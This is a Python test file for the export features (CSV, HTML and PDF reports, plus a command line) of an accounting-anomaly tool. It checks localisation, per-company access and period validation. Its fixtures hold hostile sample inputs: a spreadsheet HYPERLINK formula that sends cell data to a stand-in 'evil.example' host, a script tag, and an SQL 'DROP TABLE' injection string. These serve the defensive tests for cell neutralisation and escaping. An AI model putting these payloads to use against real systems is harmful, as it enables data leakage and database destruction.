"""Exports through the API and the command line: what they hold, in what letters, and for whom."""

import csv
import datetime as dt
import io
import uuid
from collections.abc import Callable
from pathlib import Path

import httpx
import msgspec
import pytest
from click.testing import CliRunner

from schemas import Avis, Detection, Etat, Objet, TypeObjet, Verdict
from wisebook_ml.cli import main
from wisebook_ml.export import report
from wisebook_ml.feedback.judgement import judged
from wisebook_ml.settings import get_settings
from wisebook_ml.storage import VerdictStore, open_database

pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)

EXPORT = "/api/ml/export/"
YEAR = {"societe": 1, "depuis": "2025-01-01", "jusque": "2025-12-31"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MARKUP = "<script>alert(1)</script>'; DROP TABLE avis_detection; --"

Client = Callable[[str], httpx.Client]
Write = Callable[..., None]
Make = Callable[..., Detection]


@pytest.fixture
def filled(write: Write, detection: Make, database_url: str, now: dt.datetime) -> list[Detection]:
    """Store three detections of the year, one of them about an account, and one of another year and company each."""
    first = msgspec.structs.replace(detection(1), ecriture_num=FORMULA, journal_code="+AC")
    second = msgspec.structs.replace(detection(2, score=20.0, etat=Etat.CLOSE), ecriture_num="Ωé€\u202f7")
    account = msgspec.structs.replace(
        detection(3),
        objet=Objet(type=TypeObjet.COMPTE, id=MARKUP),
        ecriture_id=None,
        journal_code=None,
        ecriture_date=None,
        score=10.0,
    )
    before = msgspec.structs.replace(detection(4), ecriture_date=dt.date(2024, 12, 31))
    write(first, second, account, before, detection(5, societe_id=2))
    engine = open_database(database_url)
    store, told = VerdictStore(engine), []
    for verdict, comment in ((Verdict.FAUX_POSITIF, FORMULA), (Verdict.CONFIRMEE, MARKUP)):
        avis = Avis(
            societe_id=1,
            detection_id=first.detection_id,
            verdict=verdict,
            auteur="@Marie",
            commentaire=comment,
            revision=1,
            remplace=True,
        )
        told.append(judged(avis, first, told, donne_le=now, empreinte=uuid.uuid4().hex))
        store.write(told[-1:])
    engine.dispose()
    return [first, second, account]


def lines(content: bytes, delimiter: str = ";") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_has_all_with_what_was_said(client: Client, filled: list[Detection]) -> None:
    answer = client("one").get(f"{EXPORT}detections.csv", params=YEAR)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "wisebook-1-2025-01-01-2025-12-31.csv" in answer.headers["content-disposition"]
    first, second, account = lines(answer.content)
    assert [one["Détection"] for one in (first, second, account)] == [str(one.detection_id) for one in filled]
    assert (first["Montant"], first["Score"], first["Gravité"], first["État"]) == (
        "1234,50",
        "71,3",
        "élevée",
        "ouverte",
    )
    assert (first["Motifs"], first["Codes"]) == ("Même pièce, même tiers", "DOUBLON")
    assert (first["Avis"], first["Commentaire"]) == ("confirmée", MARKUP.replace("; -", "; '-"))
    assert "faux positif" in first["Historique"]
    assert "confirmée" in first["Historique"]
    assert second["État"] == "close"
    assert account["Objet"] == f"COMPTE {MARKUP}".replace("; -", "; '-")


def test_no_cell_is_a_formula(client: Client, filled: list[Detection]) -> None:
    first = lines(client("one").get(f"{EXPORT}detections.csv", params=YEAR).content)[0]
    assert (first["Numéro"], first["Journal"], first["Auteur"]) == (f"'{FORMULA}", "'+AC", "'@Marie")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in first.values())


@pytest.mark.parametrize("langue", ["fr", "en"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_wherever_it_is_opened(
    client: Client, write: Callable[..., None], detection: Callable[..., Detection], langue: str, separator: str
) -> None:
    evil = 'Loyer;=A1,+A2;\t"@A3",\r\n-A4;"=A5'
    write(msgspec.structs.replace(detection(1), ecriture_num=evil, montant="-12.50"))
    content = client("one").get(f"{EXPORT}detections.csv", params=YEAR | {"langue": langue}).content.decode("utf-8-sig")
    # A spreadsheet that reads quotes, and one that does not.
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        rows = csv.reader(io.StringIO(content, newline=""), delimiter=separator, quoting=quoting)
        cells = [cell.strip().strip('"').strip() for row in rows for cell in row]
        amounts = {"-12,50", "-12.50", "-12"}
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell not in amounts] == []
    own = {"fr": ";", "en": ","}[langue]
    told = lines(content.encode(), own)[0]
    assert told[{"fr": "Montant", "en": "Amount"}[langue]] == {"fr": "-12,50", "en": "-12.50"}[langue]


def test_in_english_numbers_have_points(client: Client, filled: list[Detection]) -> None:
    content = client("one").get(f"{EXPORT}detections.csv", params=YEAR | {"langue": "en"}).content
    assert lines(content, ",")[0]["Amount"] == "1234.50"


@pytest.mark.parametrize(("langue", "said"), [("fr", "Même pièce"), ("en", "Same piece")])
def test_the_page_has_texts_as_texts(client: Client, filled: list[Detection], langue: str, said: str) -> None:
    answer = client("one").get(f"{EXPORT}rapport.html", params=YEAR | {"langue": langue})
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert said in answer.text
    assert f'<html lang="{langue}">' in answer.text
    assert "<script" not in answer.text
    assert "&lt;script&gt;" in answer.text
    assert "http" not in answer.text.replace("http://evil.example", "")


def test_the_pdf_is_one(client: Client, filled: list[Detection]) -> None:
    answer = client("one").get(f"{EXPORT}rapport.pdf", params=YEAR)
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.content.startswith(b"%PDF-")
    assert answer.content.rstrip().endswith(b"%%EOF")


def test_a_report_that_is_too_long_says_so(
    client: Client, filled: list[Detection], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report, "MOST_SHOWN", 2)
    page = client("one").get(f"{EXPORT}rapport.html", params=YEAR).text
    assert "Les 2 détections de plus haut score, sur 3" in page


def test_of_other_companies_nothing(client: Client, filled: list[Detection]) -> None:
    for name in ("detections.csv", "rapport.html", "rapport.pdf"):
        assert client("one").get(f"{EXPORT}{name}", params=YEAR | {"societe": 2}).status_code == 404
        assert client("none").get(f"{EXPORT}{name}", params=YEAR).status_code == 404


def test_a_period_without_any(client: Client, filled: list[Detection]) -> None:
    asked = YEAR | {"depuis": "2020-01-01", "jusque": "2020-12-31"}
    assert lines(client("one").get(f"{EXPORT}detections.csv", params=asked).content) == []
    assert "Aucune détection" in client("one").get(f"{EXPORT}rapport.html", params=asked).text


@pytest.mark.parametrize(
    "wrong",
    [{"jusque": "2024-12-31"}, {"depuis": "hier"}, {"langue": "de"}, {"societe_id": 1}, {"societe": 0}],
)
def test_what_is_no_period(client: Client, wrong: dict[str, object]) -> None:
    assert client("one").get(f"{EXPORT}detections.csv", params=YEAR | wrong).status_code == 400


def test_the_command_line_writes_the_same(
    client: Client, filled: list[Detection], database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WISEBOOK_ML_DATABASE_URL", database_url)
    get_settings.cache_clear()
    try:
        for kind, name in (("csv", "detections.csv"), ("html", "rapport.html"), ("pdf", "rapport.pdf")):
            file = tmp_path / f"export.{kind}"
            period = ["--from", "2025-01-01", "--to", "2025-12-31"]
            done = CliRunner().invoke(main, ["export", "1", *period, "--format", kind, "-o", str(file)])
            assert done.exit_code == 0, done.output
            if kind == "csv":
                assert file.read_bytes() == client("one").get(f"{EXPORT}{name}", params=YEAR).content
            assert file.stat().st_size > 1_000
        backwards = CliRunner().invoke(main, ["export", "1", "--from", "2025-02-01", "--to", "2025-01-01"])
        assert backwards.exit_code == 2
    finally:
        get_settings.cache_clear()
